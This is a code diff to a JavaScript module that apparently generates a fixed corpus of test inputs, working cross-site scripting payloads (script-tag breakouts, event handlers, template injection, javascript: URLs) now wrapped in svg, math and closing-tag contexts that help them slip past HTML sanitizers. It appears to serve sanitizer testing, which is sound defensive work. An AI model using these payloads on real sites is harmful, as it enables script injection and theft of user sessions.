@@ -17,5 +17,14 @@ const markup = [
   `"><script>${call}</script>`, `'><script>${call}</script>`, `" onmouseover="${call}`, `' onfocus='${call}' autofocus='`, `\${${call}}`, `{{constructor.constructor('${call}')()}}`, `javascript:${call}`, `\u2028${call}\u2029`, `</title><script>${call}</script>`, `--><script>${call}</script>`,
 ];
 
-/** So many payloads; the same always. */
-export const payloads = markup;
+/** Surroundings in which a parser reads the same text in another way. */
+const surroundings = [
+  (text) => text,
+  (text) => text.replace(/<(\/?)([a-z]+)/g, (_, slash, name) => `<${slash}${name.toUpperCase()}`).replaceAll('__RAN', '__ran'),
+  (text) => `<svg><foreignObject>${text}</foreignObject></svg>`,
+  (text) => `<math><annotation-xml encoding="text/html">${text}</annotation-xml></math>`,
+  (text) => `</style></title></textarea></script></noscript></template>${text}`,
+];
+
+/** All of them in all surroundings; the same always. */
+export const payloads = surroundings.flatMap((around) => markup.map(around));
